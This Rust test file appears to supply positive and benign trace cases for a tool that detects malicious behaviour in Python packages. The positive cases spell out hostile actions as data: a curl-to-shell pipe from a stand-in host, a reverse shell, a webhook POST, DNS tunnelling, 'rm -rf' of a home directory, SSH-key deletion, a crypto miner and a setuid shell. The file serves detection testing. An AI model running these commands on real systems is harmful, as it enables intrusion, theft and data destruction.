//! Execution, network, evasion, impact.

use pyti_model::effect::{Changed, Limit};
use pyti_model::raw::WheelComparison;
use pyti_model::trace::{Deed, Origin, Result};

use super::super::world::World;
use super::{Case, SITE, STAT, audit, become_, fails, forbidden, import, installed, many, module, ptrace};

pub(super) fn acting() -> Vec<Case> {
    let home = |path: &str| format!("/home/dev/{path}");
    vec![
        (
            "downloaded-then-run",
            import()
                .asks("GET", "a.example", "/x", "")
                .write("/tmp/x")
                .spawn()
                .runs("sh /tmp/x"),
            import()
                .asks("GET", "a.example", "/x", "")
                .write("/tmp/x")
                .spawn()
                .runs("cat --x"),
        ),
        (
            "written-then-run",
            import().executes("/tmp/x", "/tmp/x", Origin::Written, &[]),
            import().executes("/home/dev/venv/bin/x", "x", Origin::Written, &[]),
        ),
        (
            "pipe-to-shell",
            World::of("build").runs(
                "sh -c (curl -fsSL http://a.example/i || wget -qO- http://a.example/i) | sed 's/^/# /' | sh",
            ),
            World::of("build").runs("sh -c curl -fsSL http://a.example/i | tar x; sh -c true"),
        ),
        (
            "download-tool-run",
            import().runs("curl -O http://a.example/x"),
            import().runs("curl --version"),
        ),
        (
            "decoded-code-run",
            import().does(audit("marshal.loads")).does(audit("exec")),
            import().does(audit("exec")),
        ),
        (
            "bundled-program-run",
            installed().executes(&format!("{SITE}/sample/bin/helper"), "helper", Origin::Layer, &[]),
            installed().executes("/home/dev/venv/bin/python", "python -c pass", Origin::Layer, &[]),
        ),
        (
            "nameless-program-run",
            import().executes("/memfd:x (deleted)", "x", Origin::Nameless, &[]),
            import().does(Deed::Memory {
                name: "libffi".into(),
            }),
        ),
        (
            "program-from-shared-memory",
            import().executes("/dev/shm/x", "x", Origin::Written, &[]),
            import().write("/dev/shm/sem.abc"),
        ),
        (
            "picture-then-run",
            installed()
                .read(&format!("{SITE}/sample/logo.png"))
                .connects("192.0.2.1", 443),
            installed()
                .read(&format!("{SITE}/sample/logo.png"))
                .runs("fc-list"),
        ),
        (
            "bytecode-only-import",
            import().raw(module(&format!("{SITE}/sample.pyc"))),
            import().raw(module(&format!("{SITE}/sample.py"))),
        ),
        (
            "installs-more",
            World::of("build")
                .runs("/home/dev/venv/bin/python -m pip install --index-url http://index.test/ x"),
            World::of("build").runs("/home/dev/venv/bin/python -m pip --version"),
        ),
        (
            "assistant-run",
            fails(import(), "claude -p nothing"),
            import().look("/usr/bin/claude"),
        ),
        (
            "wheel-differs-from-source",
            World::of("build").published(WheelComparison {
                only_published: vec!["sample/more.py".into()],
                ..WheelComparison::default()
            }),
            World::of("build").published(WheelComparison {
                different: vec!["sample/_version.py".into(), "sample/x.so".into()],
                ..WheelComparison::default()
            }),
        ),
        (
            "somebody-contacted",
            import().resolves("a.example"),
            import()
                .connects("127.0.0.1", 80)
                .resolves("localhost")
                .unix("/run/x"),
        ),
        (
            "reverse-shell",
            import().executes("/usr/bin/dash", "sh -i", Origin::System, &[0]),
            import().executes("/usr/bin/dash", "sh -i", Origin::System, &[]),
        ),
        (
            "pty-shell",
            import()
                .connects("192.0.2.1", 4444)
                .read("/dev/ptmx")
                .spawn()
                .runs("bash"),
            import().read("/dev/ptmx").spawn().runs("bash"),
        ),
        (
            "listener",
            import().binds("0.0.0.0", 4444).listens("0.0.0.0", 4444),
            import()
                .binds("::1", 0)
                .binds("0.0.0.0", 0)
                .binds("127.0.0.1", 80)
                .listens("127.0.0.1", 80)
                .spawn()
                .listens("127.0.0.1", 81),
        ),
        (
            "dns-tunnel",
            many(import(), 12, |w, n| w.resolves(&format!("{n:032x}.ns.example"))),
            many(import(), 12, |w, _| {
                w.resolves("0123456789abcdef0123456789abcdef.cdn.example")
            }),
        ),
        (
            "dns-burst",
            many(import(), 60, |w, n| w.resolves(&format!("h{n}.example"))),
            many(import(), 60, |w, n| w.resolves(&format!("h{}.example", n % 5))),
        ),
        (
            "collector-contacted",
            import().talks(
                "http",
                "192.0.2.37",
                80,
                "discord.com",
                "POST",
                "/api/webhooks/1/none",
                "{}",
            ),
            import().talks(
                "http",
                "192.0.2.37",
                80,
                "discord.example",
                "POST",
                "/api/webhooks/1/none",
                "{}",
            ),
        ),
        (
            "mail-sent",
            import().talks("smtp", "192.0.2.37", 587, "smtp.example", "EHLO", "x", ""),
            import().talks("http", "192.0.2.37", 8587, "smtp.example", "GET", "/", ""),
        ),
        (
            "websocket-opened",
            import().talks("websocket", "192.0.2.37", 80, "a.example", "GET", "/", ""),
            import().talks("http", "192.0.2.37", 80, "a.example", "GET", "/", ""),
        ),
        (
            "tunnel-program-run",
            import().executes("/tmp/cloudflared", "cloudflared tunnel", Origin::Written, &[]),
            import().runs("cloud-init status"),
        ),
        (
            "tunnel-client",
            import().resolves("region1.argotunnel.example"),
            import().resolves("region1.tunnels.example"),
        ),
        (
            "dead-drop-then-run",
            import().talks(
                "http",
                "192.0.2.40",
                80,
                "raw.githubusercontent.com",
                "GET",
                "/a/b",
                "",
            ),
            World::of("test").talks("http", "192.0.2.40", 80, "files.example", "GET", "/a/b", ""),
        ),
        (
            "miner",
            import().talks(
                "stratum",
                "192.0.2.41",
                3333,
                "pool.example",
                "mining.subscribe",
                "",
                "",
            ),
            import().talks("raw", "192.0.2.41", 3334, "pool.example", "", "", ""),
        ),
        (
            "miner-port",
            import().connects("192.0.2.41", 3333),
            import().connects("127.0.0.1", 3333),
        ),
        (
            "location-asked",
            import().resolves("ipinfo.io"),
            import().resolves("ip.example"),
        ),
        (
            "network-scanned",
            many(import(), 25, |w, n| w.connects(&format!("192.0.2.{n}"), 22)),
            // names that were asked for, each at its own address
            many(import(), 25, |w, n| w.connects(&format!("198.18.0.{n}"), 443)),
        ),
        (
            "lateral-movement",
            fails(
                import().read(&home(".ssh/known_hosts")),
                "ssh -o BatchMode=yes nobody@198.51.100.57 true",
            ),
            import().runs("ssh -V").read(&home(".ssh/known_hosts")),
        ),
        ("outlives", import().survives("kworker/0:1"), World::of("import")),
        (
            "kernel-thread-name",
            import().does(become_("prctl set_name", "kworker/0:1")),
            import().does(become_("prctl set_name", "worker: idle")),
        ),
        (
            "machine-checked",
            STAT.iter().fold(import(), |world, path| world.read(path)),
            import()
                .read("/proc/cpuinfo")
                .read("/sys/devices/system/cpu/online")
                .read("/proc/self/cgroup")
                .read("/etc/os-release")
                .read("/proc/version")
                .does(Deed::Inquire {
                    call: "sched_getaffinity".into(),
                }),
        ),
        (
            "hardware-identity-read",
            import().read(STAT[0]),
            import().look(STAT[0]),
        ),
        ("idles", import().costs(45.0, 0.2), import().costs(78.0, 4.0)),
        (
            "debugger-checked",
            import().does(ptrace("traceme")),
            import().does(ptrace("detach")),
        ),
        (
            "undumpable",
            import().does(become_("prctl set_dumpable", "")),
            import().does(become_("prctl set_pdeathsig", "")),
        ),
        (
            "process-memory-read",
            import().does(Deed::ForeignMemory {
                target: 9,
                write: false,
            }),
            import().read("/proc/self/mem"),
        ),
        (
            "process-traced",
            import().does(ptrace("attach")),
            import().does(ptrace("traceme")),
        ),
        (
            "history-wiped",
            import().does(Deed::Truncate {
                path: "/home/dev/.bash_history".into(),
            }),
            import().write("/home/dev/.bash_history"),
        ),
        (
            "own-files-removed",
            installed().remove(&format!("{SITE}/sample/_stage.py")),
            installed()
                .remove(&format!("{SITE}/sample/__pycache__/_stage.pyc"))
                .write(&format!("{SITE}/sample/parsetab.py")),
        ),
        (
            "own-sources-restored",
            World::of("build").write("/home/dev/src/sample-1.0/setup.py"),
            World::of("build").write("/home/dev/src/sample-1.0/sample/_version.py"),
        ),
        (
            "io-uring-tried",
            import().tries(forbidden("io_uring_setup"), Result::Refused),
            import().tries(forbidden("clone3"), Result::Refused),
        ),
        (
            "process-flood",
            World::of("start").limit(Limit::Processes),
            World::of("start").limit(Limit::Memory),
        ),
        (
            "home-destroyed",
            many(import(), 5, |w, n| {
                w.rename(
                    &format!("/home/dev/notes/{n}"),
                    &format!("/home/dev/notes/{n}.locked"),
                )
            }),
            many(import(), 9, |w, n| {
                w.remove(&format!("/home/dev/.cache/sample/{n}"))
                    .remove(&format!("/tmp/{n}"))
                    .remove(&format!("/home/dev/src/build/{n}.o"))
            }),
        ),
        (
            "home-overwritten",
            many(import(), 5, |w, n| {
                w.changes(&format!("/home/dev/notes/{n}.txt"), Changed::Modified, 10)
            }),
            many(import(), 9, |w, n| {
                w.changes(&format!("/home/dev/notes/{n}.txt"), Changed::Added, 10)
                    .changes(&format!("/home/dev/.cache/sample/{n}"), Changed::Modified, 10)
            }),
        ),
        (
            "setuid-made",
            import().does(Deed::Mode {
                path: "/tmp/sh".into(),
                mode: 0o4755,
            }),
            import().does(Deed::Mode {
                path: "/tmp/sh".into(),
                mode: 0o755,
            }),
        ),
        (
            "secrets-destroyed",
            import().remove(&home(".ssh/id_rsa")),
            import().remove(&home(".kube/cache/x")),
        ),
        (
            "tree-removed",
            import().runs("rm -rf /home/dev"),
            import().runs("rm -rf /home/dev/src/build /tmp/x"),
        ),
        (
            "miner-started",
            fails(import(), "xmrig -o pool.example"),
            fails(import(), "make -j4"),
        ),
        (
            "clipboard-watched",
            many(import(), 4, |w, _| fails(w, "xclip -o")),
            many(import(), 4, |w, _| w.look("/usr/bin/xclip")),
        ),
        (
            "display-contacted",
            import().unix("/tmp/.X11-unix/X0"),
            import().unix("/tmp/x.sock"),
        ),
        (
            "keys-or-screen-captured",
            import().read("/dev/input/event0"),
            import().look("/dev/input/event0"),
        ),
        (
            "privilege-files-written",
            import().write("/proc/sys/kernel/core_pattern"),
            import().read("/proc/sys/kernel/core_pattern"),
        ),
        (
            "kernel-module-loaded",
            import().tries(forbidden("finit_module"), Result::Refused),
            import().tries(forbidden("keyctl"), Result::Refused),
        ),
        (
            "namespace-sought",
            import().tries(forbidden("unshare"), Result::Refused),
            import().tries(forbidden("io_uring_setup"), Result::Refused),
        ),
        (
            "rights-taken",
            import().does(become_("setuid", "")),
            import().does(become_("setsid", "")),
        ),
        (
            "sudo-run",
            fails(import(), "sudo -n true"),
            fails(import(), "pseudo -n true"),
        ),
        (
            "password-asked",
            fails(import(), "sudo -S true"),
            fails(import(), "sudo -n true"),
        ),
    ]
}
